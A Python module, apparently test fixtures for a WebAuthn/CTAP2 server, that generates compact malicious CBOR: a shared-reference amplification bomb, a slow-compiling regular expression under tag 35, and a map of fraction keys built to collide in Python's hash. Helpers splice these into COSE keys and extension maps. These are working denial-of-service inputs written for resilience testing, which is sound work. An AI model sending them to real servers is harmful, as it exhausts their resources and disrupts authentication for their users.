"""CBOR that is short, and expensive for a decoder that supports every tag of RFC 8949.

CTAP2's canonical form (CTAP 2.1 §8) has no tags at all, so no authenticator ever sends these.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import cbor2

CoseKey = dict[int, Any]
PRIME = 2**61 - 1


def shared_references(levels: int = 4, width: int = 45) -> bytes:
    """Tags 28 and 29: each list holds the one before it `width` times.

    Decoded it is `levels` lists; written out again it is `width` to the power of `levels` bytes.
    """
    lists = [_shared_list(b"\0" * width, width)]
    lists += [_shared_list(_reference(n) * width, width) for n in range(levels - 1)]
    return _head(4, levels) + b"".join(lists)


def regular_expressions(size: int = 150) -> bytes:
    """Tag 35: a pattern that takes Python some 5 ms to compile for every 6 bytes of it."""
    return cbor2.dumps(cbor2.CBORTag(35, "(?i)" + "[!-\uffff]" * size))


def colliding_fractions(size: int = 900) -> bytes:
    """Tag 30: a map of keys that all hash to 0, and that only Python code can tell apart."""
    keys = (b"\xd8\x1e\x82" + cbor2.dumps(n * PRIME) + b"\x01" for n in range(1, size + 1))
    return _head(5, size) + b"".join(key + b"\0" for key in keys)


def in_a_member(value: bytes, label: int = -3) -> Callable[[CoseKey], bytes]:
    """The honest COSE key with one member's value replaced by this CBOR."""

    def change(honest: CoseKey) -> bytes:
        others = {key: honest[key] for key in honest if key != label}
        head = bytes([0xA0 | len(honest)])
        return head + cbor2.dumps(others)[1:] + cbor2.dumps(label) + value

    return change


def under_a_name(value: bytes) -> bytes:
    """A map with this CBOR in it, as an extension or a statement might be."""
    return b"\xa1aa" + value


def _head(major: int, count: int) -> bytes:
    return bytes([major << 5 | 25]) + count.to_bytes(2)


def _shared_list(items: bytes, count: int) -> bytes:
    return b"\xd8\x1c" + _head(4, count) + items


def _reference(number: int) -> bytes:
    return b"\xd8\x1d" + cbor2.dumps(number)
